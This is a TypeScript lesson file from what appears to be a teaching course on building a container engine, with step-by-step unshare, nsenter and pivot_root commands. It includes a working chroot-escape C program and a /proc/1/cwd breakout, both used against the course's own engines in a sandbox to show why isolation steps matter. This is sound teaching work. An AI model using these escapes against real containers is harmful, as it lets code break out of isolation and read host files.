/** Chapter 2 by hand: a box with its own host name, processes and mounts, made with unshare(1) and entered with nsenter(1); then attacks. */

import type { Step } from '../../course/by-hand-type.ts'

export const byHand: readonly Step[] = [
  {
    name: 'copy-a-tree',
    why: "The box needs files. Chapter 1's engine copies a whole tree for each container: take a copy of that, and put a secret beside it.",
    command: `npm run chapter 1 -- run --name tree busybox true
mkdir /tmp/box
cp -a /var/lib/minidock/containers/*/rootfs /tmp/box/newroot
npm run chapter 1 -- rm tree
echo 'the host was here' > /tmp/box/secret`,
    shows: 'tree',
  },
  {
    name: 'name-the-namespaces',
    why: 'A process can look up which namespaces it is in: each has a type and a number.',
    command: 'readlink /proc/self/ns/uts /proc/self/ns/pid /proc/self/ns/mnt',
    shows: `uts:[…]
pid:[…]
mnt:[…]`,
  },
  {
    name: 'own-host-name',
    why: 'In a UTS namespace of its own, a program changes a host name that nobody else has.',
    command: "unshare --uts bash -c 'hostname box; hostname'",
    shows: 'box',
  },
  {
    name: 'host-name-unchanged',
    why: 'The host is still called what it was called.',
    command: 'hostname',
    shows: 'sandbox',
  },
  {
    name: 'pid-without-fork',
    why: 'A new PID namespace is for your children: bash keeps its number, the first ls is number 1, and with number 1 the namespace ends.',
    command: `unshare --pid bash -c 'echo "I am $$"; ls -d /; ls -d /; echo done'`,
    shows: `I am …
/
…fork: Cannot allocate memory`,
  },
  {
    name: 'pid-with-fork',
    why: 'With --fork, unshare makes a child first, and the child becomes bash.',
    command: `unshare --pid --fork bash -c 'echo "I am $$"; ls -d /; ls -d /; echo done'`,
    shows: `I am 1
/
/
done`,
  },
  {
    name: 'start-a-box',
    why: 'Three new namespaces at once. A sleep is process 1 in them and keeps them there; the function runs a command inside.',
    command: `(cd /; exec unshare --mount --propagation unchanged --uts --pid --fork sleep 1000) 2> /dev/null &
until BOX=$(pgrep --parent $!); do sleep 0.1; done
inside() { nsenter --target $BOX --mount --uts --pid "$@"; }`,
    shows: '',
  },
  {
    name: 'list-the-namespaces',
    why: "The number is that of the first process in each: five are still the machine's, where it is 1; three are new.",
    command: 'lsns --task $BOX --noheadings --output TYPE,PID | sort -n -k 2',
    shows: `cgroup …1
ipc    …1
net    …1
time   …1
user   …1
mnt    …
uts    …
pid    …`,
  },
  {
    name: 'two-names',
    why: 'The box gets a name, and keeps it to itself.',
    command: 'inside hostname box; inside hostname; hostname',
    shows: `box
sandbox`,
  },
  {
    name: 'two-numbers',
    why: 'One process, two numbers: the first is what the host calls it, the second what it is called inside.',
    command: 'grep NSpid /proc/$BOX/status',
    shows: 'NSpid:\t…\t1',
  },
  {
    name: 'old-proc',
    why: 'The box has a copy of the mount of /proc, and that one still has the numbers of the host.',
    command: `inside bash -c 'echo "I am $$"; read number rest </proc/self/stat; echo "/proc says $number"'`,
    shows: `I am …
/proc says …`,
  },
  {
    name: 'stop-propagation',
    why: 'The copied mounts still propagate to the host: make them private.',
    command: 'inside mount --make-rprivate /',
    shows: '',
  },
  {
    name: 'make-it-a-mount',
    why: 'Only a mount can become the root: mount the tree on itself.',
    command: 'inside mount --bind /tmp/box/newroot /tmp/box/newroot',
    shows: '',
  },
  {
    name: 'two-tables',
    why: 'How many mounts have newroot in their name, in the box and on the host?',
    command: 'inside grep -c newroot /proc/self/mountinfo; grep -c newroot /proc/self/mountinfo',
    shows: `1
0`,
  },
  {
    name: 'pivot',
    why: 'The tree goes to the top of the mount table, and what was there goes to its folder old.',
    command: `inside mkdir /tmp/box/newroot/old
inside sh -c 'cd /tmp/box/newroot && pivot_root . old'`,
    shows: '',
  },
  {
    name: 'new-root',
    why: 'Everybody in the box has a new root.',
    command: 'inside ls /',
    shows: `bin
dev
etc
home
old
proc
root
sys
tmp
usr
var`,
  },
  {
    name: 'still-there',
    why: "But the host's files are still to be had.",
    command: 'inside cat /old/tmp/box/secret',
    shows: 'the host was here',
  },
  {
    name: 'own-proc',
    why: 'A /proc that is mounted in here lists the processes in here.',
    command: `inside mount -t proc proc /proc
inside ps`,
    shows: `PID   USER     COMMAND
    1 root     sleep 1000
…root     ps`,
  },
  {
    name: 'let-go',
    why: 'Take off the old root.',
    command: `inside umount -l /old
inside cat /old/tmp/box/secret`,
    shows: "cat: can't open '/old/tmp/box/secret': No such file or directory",
  },
  {
    name: 'what-is-left',
    why: 'The whole mount table of the box: two lines.',
    command: 'inside mount',
    shows: `… on / type …
proc on /proc type proc (rw,relatime)`,
  },
  {
    name: 'second-sleep',
    why: 'A second process in the box; the host sees both.',
    command: `inside sleep 2000 2> /dev/null &
sleep 1; pgrep --count --full '^sleep [12]000'`,
    shows: '2',
  },
  {
    name: 'end-it',
    why: 'Kill process 1 of the box from the host, and the kernel kills everybody else in there.',
    command: `kill -9 $BOX
sleep 1; pgrep --count --full '^sleep [12]000'`,
    shows: '0',
  },
]

export const attacks: readonly Step[] = [
  {
    name: 'write-the-escape',
    why: 'A secret on the host, and the program of chapter 1 that wants it.',
    command: `echo 'the host was here' > /tmp/secret
cat > /tmp/escape.c <<'end'
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  mkdir("/jail", 0755);
  chroot("/jail");
  for (int i = 0; i < 64; i++)
    chdir("..");
  chroot(".");
  execvp(argv[1], argv + 1);
  return 1;
}
end
gcc -static -Wno-unused-result -o /tmp/escape /tmp/escape.c`,
    shows: '',
  },
  {
    name: 'escape-from-1',
    why: 'In the engine of chapter 1 it stands outside.',
    command: `try='cat > /escape; chmod +x /escape; /escape cat /tmp/secret'
npm run chapter 1 -- run --rm -i busybox sh -c "$try" < /tmp/escape`,
    shows: 'the host was here',
  },
  {
    name: 'escape-from-2',
    why: 'The same program in the engine of chapter 2.',
    command: 'npm run chapter 2 -- run --rm -i busybox sh -c "$try" < /tmp/escape',
    shows: "cat: can't open '/tmp/secret': No such file or directory",
  },
  {
    name: 'where-it-arrives',
    why: 'It has climbed as high as it can. Where is it?',
    command: `try='cat > /escape; chmod +x /escape; /escape ls /'
npm run chapter 2 -- run --rm -i busybox sh -c "$try" < /tmp/escape`,
    shows: `bin
dev
escape
etc
home
jail
proc
root
sys
tmp
usr
var`,
  },
  {
    name: 'careless-box',
    why: 'A box by hand as before, but its process 1 was started in /tmp, a folder of the host.',
    command: `npm run chapter 1 -- run --name tree busybox true
cp -a /var/lib/minidock/containers/*/rootfs /tmp/newroot
npm run chapter 1 -- rm tree
(cd /tmp; exec unshare --mount --pid --fork sleep 4000) &
until BOX=$(pgrep --parent $!); do sleep 0.1; done`,
    shows: 'tree',
  },
  {
    name: 'held-folder',
    why: 'The root is swapped, the old one is taken off; and there is a way out all the same.',
    command: `nsenter --target $BOX --mount --pid sh -c '
  mount --bind /tmp/newroot /tmp/newroot
  cd /tmp/newroot && pivot_root . tmp && umount -l /tmp && mount -t proc proc /proc
  cat /proc/1/cwd/secret'`,
    shows: 'the host was here',
  },
  {
    name: 'leak',
    why: 'A mount namespace alone is not enough: what is mounted in this one appears on the host.',
    command: `unshare --mount --propagation unchanged mount -t tmpfs leak /mnt
findmnt --noheadings --output TARGET,SOURCE /mnt`,
    shows: '/mnt   leak',
  },
  {
    name: 'engine-without-it',
    why: 'The sandbox is the place to break the engine itself: take the line out of the heart, and start a container.',
    command: `umount /mnt
cp runtime/namespaces/heart.ts /tmp/heart.ts
sed -i '/MS.REC | MS.PRIVATE/d' runtime/namespaces/heart.ts
npm run chapter 2 -- run --rm busybox true`,
    shows: `minidock: cannot start …: pivot_root(".", "."): EINVAL: …a mount around it is shared…
…`,
  },
  {
    name: 'engine-leaks',
    why: 'It does not even start, and what the engine has mounted before is left on the host.',
    command: 'findmnt --list --noheadings --output TARGET | grep /containers/',
    shows: '/var/lib/minidock/containers/.removed-…/rootfs',
  },
  {
    name: 'put-it-back',
    why: 'Unmount what has leaked, and give the heart its line back.',
    command: `umount /var/lib/minidock/containers/.removed-*/rootfs
cp /tmp/heart.ts runtime/namespaces/heart.ts`,
    shows: '',
  },
  {
    name: 'quiet-container',
    why: 'The real engine again: a container, and the number of its process 1 on the host.',
    command: `npm run chapter 2 -- run -d --name quiet busybox sleep 3000 > /dev/null
PID=$(npm run --silent chapter 2 -- inspect -f '{{.State.Pid}}' quiet)`,
    shows: '',
  },
  {
    name: 'no-leak',
    why: "The engine stops the propagation first. How many mounts come from the container's folder, in the container and on the host?",
    command: 'grep -c /containers/ /proc/$PID/mountinfo; grep -c /containers/ /proc/self/mountinfo',
    shows: `4
0`,
  },
  {
    name: 'kill-number-1',
    why: 'Not even signal 9 reaches process 1 from inside.',
    command: "npm run chapter 2 -- run --rm busybox sh -c 'kill -9 1; echo still here'",
    shows: 'still here',
  },
  {
    name: 'kill-from-outside',
    why: 'From the host it is an ordinary process.',
    command: `kill -9 $PID
sleep 1; npm run chapter 2 -- ps -a --filter name=quiet --format '{{.Names}}: {{.Status}}'`,
    shows: 'quiet: Exited (137) … ago',
  },
]
